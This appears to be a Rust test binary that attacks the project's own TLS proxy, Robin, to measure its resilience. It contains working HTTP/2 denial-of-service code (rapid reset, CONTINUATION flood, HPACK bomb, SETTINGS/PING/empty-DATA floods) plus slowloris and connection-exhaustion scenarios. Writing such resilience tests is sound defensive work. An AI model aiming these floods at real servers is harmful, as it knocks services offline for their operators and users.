//! A hostile workload for `tests/tests/hostile.rs`, run by `robin exec` inside its captured
//! cgroup. Every attack is bounded in count and time; every scenario also makes a legitimate
//! HTTPS request while the attack runs and reports its status and latency as JSON on stdout.
//!
//!   robin-attack CA_PEM HOST IP SCENARIO N
//!
//! Scenarios: `rapid-reset`, `continuation`, `hpack-bomb`, `settings`, `ping`, `empty-data`
//! (HTTP/2 over TLS, raw frames), `slowloris` (N TLS connections sending a header byte a
//! second), `idle` (N TLS connections held open), `cap` (N idle connections, then 20 more one
//! at a time; reports which were closed). `idle` and `slowloris` print checkpoints and
//! wait for a line on stdin before going on, so the test can measure Robin meanwhile.
use std::{
    io::BufRead as _,
    net::{IpAddr, SocketAddr},
    sync::Arc,
    time::{Duration, Instant},
};

use rustls::pki_types::{CertificateDer, ServerName, pem::PemObject as _};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};
use tokio_rustls::{TlsConnector, client::TlsStream};

/// Longest any attack phase runs.
const ATTACK_TIME: Duration = Duration::from_secs(10);
const STEP: Duration = Duration::from_secs(20);

struct Target {
    h2: TlsConnector,
    h1: TlsConnector,
    host: ServerName<'static>,
    host_str: String,
    addr: SocketAddr,
}

impl Target {
    async fn connect(&self, alpn_h2: bool) -> std::io::Result<TlsStream<TcpStream>> {
        let tcp = TcpStream::connect(self.addr).await?;
        let connector = if alpn_h2 { &self.h2 } else { &self.h1 };
        connector.connect(self.host.clone(), tcp).await
    }

    /// One HTTP/1.1 GET on a fresh TLS connection: (status line, latency).
    async fn legit_request(&self) -> (String, Duration) {
        let start = Instant::now();
        let attempt = async {
            let mut s = self.connect(false).await?;
            let req = format!(
                "GET /legit HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
                self.host_str
            );
            s.write_all(req.as_bytes()).await?;
            let mut buf = Vec::new();
            let _ = s.read_to_end(&mut buf).await;
            let text = String::from_utf8_lossy(&buf);
            std::io::Result::Ok(text.lines().next().unwrap_or_default().to_owned())
        };
        let status = match tokio::time::timeout(STEP, attempt).await {
            Ok(Ok(s)) => s,
            Ok(Err(e)) => format!("error: {e}"),
            Err(_) => "timed out".into(),
        };
        (status, start.elapsed())
    }
}

fn config(roots: &rustls::RootCertStore, h2: bool) -> rustls::ClientConfig {
    let mut cfg = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .expect("protocol versions")
    .with_root_certificates(roots.clone())
    .with_no_client_auth();
    cfg.alpn_protocols = vec![if h2 {
        b"h2".to_vec()
    } else {
        b"http/1.1".to_vec()
    }];
    cfg
}

// ---- HTTP/2 framing, by hand (RFC 9113 §4.1, RFC 7541) ----

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK integer with an `n`-bit prefix, the prefix's other bits set to `flags`.
fn hpack_int(out: &mut Vec<u8>, flags: u8, n: u32, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(flags | v as u8);
        return;
    }
    out.push(flags | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

fn hpack_str(out: &mut Vec<u8>, s: &[u8]) {
    hpack_int(out, 0, 7, s.len());
    out.extend_from_slice(s);
}

/// `:method`, `:scheme https`, `:path /`, `:authority host` (static-table indices 2/3, 7, 4, 1).
fn request_block(host: &str, post: bool) -> Vec<u8> {
    let mut b = vec![if post { 0x83 } else { 0x82 }, 0x87, 0x84];
    hpack_int(&mut b, 0x00, 4, 1);
    hpack_str(&mut b, host.as_bytes());
    b
}

async fn h2_conn(t: &Target) -> std::io::Result<TlsStream<TcpStream>> {
    let mut s = t.connect(true).await?;
    let mut hello = PREFACE.to_vec();
    frame(&mut hello, SETTINGS, 0, 0, &[]);
    s.write_all(&hello).await?;
    Ok(s)
}

/// Reads and discards what the server sends until it closes; returns bytes read.
async fn drain(mut r: tokio::io::ReadHalf<TlsStream<TcpStream>>) -> usize {
    let mut buf = vec![0u8; 64 * 1024];
    let mut total = 0;
    while let Ok(Ok(n)) = tokio::time::timeout(ATTACK_TIME, r.read(&mut buf)).await {
        if n == 0 {
            break;
        }
        total += n;
    }
    total
}

/// Writes `batches` produced by `next` on fresh connections until `n` units are sent or time is
/// up; a connection the server closes is replaced. Returns (units sent, connections used).
async fn flood(
    t: &Target,
    n: usize,
    read: bool,
    mut next: impl FnMut(usize) -> (Vec<u8>, usize),
) -> (usize, usize) {
    let deadline = Instant::now() + ATTACK_TIME;
    let (mut sent, mut conns) = (0, 0);
    while sent < n && Instant::now() < deadline {
        let Ok(s) = h2_conn(t).await else { break };
        conns += 1;
        let (r, mut w) = tokio::io::split(s);
        let reader = read.then(|| tokio::spawn(drain(r)));
        let mut i = 0;
        while sent < n && Instant::now() < deadline {
            let (bytes, units) = next(i);
            i += 1;
            match tokio::time::timeout(Duration::from_secs(2), w.write_all(&bytes)).await {
                Ok(Ok(())) => sent += units,
                _ => break,
            }
        }
        let _ = w.shutdown().await;
        if let Some(r) = reader {
            r.abort();
        }
    }
    (sent, conns)
}

async fn h2_attack(t: &Target, scenario: &str, n: usize) -> (usize, usize) {
    let host = t.host_str.clone();
    match scenario {
        // HEADERS + RST_STREAM(CANCEL) on stream after stream, 100 pairs per write.
        "rapid-reset" => {
            let block = request_block(&host, false);
            let mut stream = 1u32;
            flood(t, n, true, move |_| {
                let mut out = Vec::new();
                for _ in 0..100 {
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                    frame(&mut out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
                    stream = stream.wrapping_add(2) & 0x7fff_ffff;
                }
                (out, 100)
            })
            .await
        }
        // One HEADERS without END_HEADERS, then CONTINUATION frames of junk headers forever.
        "continuation" => {
            let mut chunk = Vec::new();
            for i in 0..400 {
                hpack_int(&mut chunk, 0x00, 4, 0);
                hpack_str(&mut chunk, format!("x-junk-{i}").as_bytes());
                hpack_str(&mut chunk, b"aaaaaaaaaaaaaaaaaaaaaaaa");
            }
            let first = request_block(&host, false);
            flood(t, n, true, move |i| {
                let mut out = Vec::new();
                if i == 0 {
                    frame(&mut out, HEADERS, END_STREAM, 1, &first);
                }
                frame(
                    &mut out,
                    CONTINUATION,
                    0,
                    1,
                    &chunk[..chunk.len().min(16_000)],
                );
                (out, 1)
            })
            .await
        }
        // A 4 KiB header in the dynamic table, then thousands of one-byte references to it.
        "hpack-bomb" => {
            let mut stream = 1u32;
            flood(t, n, true, move |_| {
                let mut block = request_block(&host, false);
                hpack_int(&mut block, 0x40, 6, 0);
                hpack_str(&mut block, b"x-bomb");
                hpack_str(&mut block, &[b'a'; 4000]);
                block.extend(std::iter::repeat_n(0xbe, 15_000));
                let mut out = Vec::new();
                frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                stream += 2;
                (out, 1)
            })
            .await
        }
        // Control frames the server must answer, never read back.
        "settings" => {
            flood(t, n, false, |_| {
                let mut out = Vec::new();
                for _ in 0..100 {
                    frame(&mut out, SETTINGS, 0, 0, &[]);
                }
                (out, 100)
            })
            .await
        }
        "ping" => {
            flood(t, n, false, |_| {
                let mut out = Vec::new();
                for _ in 0..100 {
                    frame(&mut out, PING, 0, 0, &[7; 8]);
                }
                (out, 100)
            })
            .await
        }
        // One request body made of empty DATA frames.
        "empty-data" => {
            let first = request_block(&host, true);
            flood(t, n, true, move |i| {
                let mut out = Vec::new();
                if i == 0 {
                    frame(&mut out, HEADERS, END_HEADERS, 1, &first);
                }
                for _ in 0..100 {
                    frame(&mut out, DATA, 0, 1, &[]);
                }
                (out, 100)
            })
            .await
        }
        other => panic!("unknown scenario {other}"),
    }
}

/// Waits for the test to say go on (a line on stdin).
fn checkpoint(name: &str, detail: serde_json::Value) {
    println!(
        "{}",
        serde_json::json!({"checkpoint": name, "detail": detail})
    );
    let mut line = String::new();
    let _ = std::io::stdin().lock().read_line(&mut line);
}

/// Opens `n` TLS connections, 128 handshakes at a time (resuming sessions, as real clients
/// do); returns them and the failures.
async fn open_many(t: &Arc<Target>, n: usize) -> (Vec<TlsStream<TcpStream>>, usize) {
    let sem = Arc::new(tokio::sync::Semaphore::new(128));
    let mut set = JoinSet::new();
    for _ in 0..n {
        let (t, sem) = (t.clone(), sem.clone());
        set.spawn(async move {
            let _permit = sem.acquire_owned().await.expect("semaphore");
            tokio::time::timeout(STEP, t.connect(false)).await
        });
    }
    let (mut ok, mut failed) = (Vec::new(), 0);
    while let Some(r) = set.join_next().await {
        match r {
            Ok(Ok(Ok(s))) => ok.push(s),
            _ => failed += 1,
        }
    }
    (ok, failed)
}

async fn idle(t: Arc<Target>, n: usize) -> serde_json::Value {
    // Warm Robin up (leaf minted, upstream pooled) before the test takes its idle figures.
    let (warm, _) = t.legit_request().await;
    tokio::task::block_in_place(|| checkpoint("ready", serde_json::json!(warm)));
    let start = Instant::now();
    let (conns, failed) = open_many(&t, n).await;
    let open_ms = start.elapsed().as_millis();
    let (status, latency) = t.legit_request().await;
    let detail = serde_json::json!({"open": conns.len(), "failed": failed, "open_ms": open_ms});
    tokio::task::block_in_place(|| checkpoint("holding", detail));
    drop(conns);
    tokio::task::block_in_place(|| checkpoint("closed", serde_json::Value::Null));
    serde_json::json!({
        "open": n - failed, "failed": failed, "open_ms": open_ms,
        "legit_status": status, "legit_ms": latency.as_millis(),
    })
}

/// `n` TLS connections each sending a request header one byte a second; reports when Robin
/// closed them, in seconds after their first header byte.
async fn slowloris(t: Arc<Target>, n: usize) -> serde_json::Value {
    let (warm, _) = t.legit_request().await;
    tokio::task::block_in_place(|| checkpoint("ready", serde_json::json!(warm)));
    let (conns, failed) = open_many(&t, n).await;
    let mut set = JoinSet::new();
    let header = b"GET /slow HTTP/1.1\r\nHost: slow\r\nX-Slow: ".to_vec();
    for s in conns {
        let header = header.clone();
        set.spawn(async move {
            let (mut r, mut w) = tokio::io::split(s);
            let start = Instant::now();
            let writer = async {
                for b in header.iter().chain(std::iter::repeat(&b'a')).take(120) {
                    if w.write_all(&[*b]).await.is_err() {
                        break;
                    }
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
                std::future::pending::<()>().await
            };
            let mut buf = [0u8; 1024];
            let closed = async {
                loop {
                    match r.read(&mut buf).await {
                        Ok(0) | Err(_) => break,
                        Ok(_) => {}
                    }
                }
            };
            let limit = Duration::from_secs(60);
            tokio::select! {
                () = writer => None,
                r = tokio::time::timeout(limit, closed) => r.ok().map(|()| start.elapsed()),
            }
        });
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    let (status, latency) = t.legit_request().await;
    let mut closed_after = Vec::new();
    let mut never_closed = 0;
    while let Some(r) = set.join_next().await {
        match r.ok().flatten() {
            Some(d) => closed_after.push(d.as_secs_f64()),
            None => never_closed += 1,
        }
    }
    closed_after.sort_by(f64::total_cmp);
    tokio::task::block_in_place(|| checkpoint("closed", serde_json::Value::Null));
    serde_json::json!({
        "open": closed_after.len() + never_closed, "failed": failed,
        "closed_min_s": closed_after.first(), "closed_max_s": closed_after.last(),
        "never_closed": never_closed,
        "legit_status": status, "legit_ms": latency.as_millis(),
    })
}

/// Whether Robin closed `s`: EOF or an error within a short wait.
async fn is_closed(mut s: TlsStream<TcpStream>) -> bool {
    let mut buf = [0u8; 256];
    match tokio::time::timeout(Duration::from_millis(500), s.read(&mut buf)).await {
        Ok(Ok(0)) | Ok(Err(_)) => true,
        Ok(Ok(_)) | Err(_) => false,
    }
}

async fn closed_indices(conns: Vec<TlsStream<TcpStream>>) -> Vec<usize> {
    let mut set = JoinSet::new();
    for (i, s) in conns.into_iter().enumerate() {
        set.spawn(async move { (i, is_closed(s).await) });
    }
    let mut closed: Vec<usize> = set
        .join_all()
        .await
        .into_iter()
        .filter_map(|(i, c)| c.then_some(i))
        .collect();
    closed.sort_unstable();
    closed
}

/// `n` idle connections, then 20 more opened one after the other, then a legitimate request.
async fn cap(t: Arc<Target>, n: usize) -> serde_json::Value {
    let mut conns = Vec::new();
    let mut failed = 0;
    for _ in 0..n + 20 {
        match tokio::time::timeout(STEP, t.connect(false)).await {
            Ok(Ok(s)) => conns.push(s),
            _ => failed += 1,
        }
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let (status, latency) = t.legit_request().await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    serde_json::json!({
        "failed": failed, "closed": closed_indices(conns).await,
        "legit_status": status, "legit_ms": latency.as_millis(),
    })
}

fn raise_nofile() {
    use nix::sys::resource::{Resource, getrlimit, setrlimit};
    if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
    }
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() {
    let args: Vec<String> = std::env::args().collect();
    let [_, ca, host, ip, scenario, n] = &args[..] else {
        panic!("usage: robin-attack CA_PEM HOST IP SCENARIO N");
    };
    raise_nofile();
    let mut roots = rustls::RootCertStore::empty();
    for cert in CertificateDer::pem_file_iter(ca).expect("reading CA") {
        roots.add(cert.expect("CA PEM")).expect("adding CA");
    }
    let ip: IpAddr = ip.parse().expect("IP");
    let n: usize = n.parse().expect("N");
    let t = Arc::new(Target {
        h2: TlsConnector::from(Arc::new(config(&roots, true))),
        h1: TlsConnector::from(Arc::new(config(&roots, false))),
        host: ServerName::try_from(host.clone()).expect("host"),
        host_str: host.clone(),
        addr: SocketAddr::new(ip, 443),
    });
    let out = match scenario.as_str() {
        "idle" => idle(t, n).await,
        "slowloris" => slowloris(t, n).await,
        "cap" => cap(t, n).await,
        attack => {
            let (warm, _) = t.legit_request().await;
            tokio::task::block_in_place(|| checkpoint("ready", serde_json::json!(warm)));
            let runner = {
                let t = t.clone();
                let attack = attack.to_owned();
                tokio::spawn(async move { h2_attack(&t, &attack, n).await })
            };
            // The legitimate request goes in while the attack is under way.
            tokio::time::sleep(Duration::from_millis(30)).await;
            let (status, latency) = t.legit_request().await;
            let (sent, conns) = runner.await.expect("attack task");
            serde_json::json!({
                "sent": sent, "connections": conns,
                "legit_status": status, "legit_ms": latency.as_millis(),
            })
        }
    };
    println!("{out}");
}
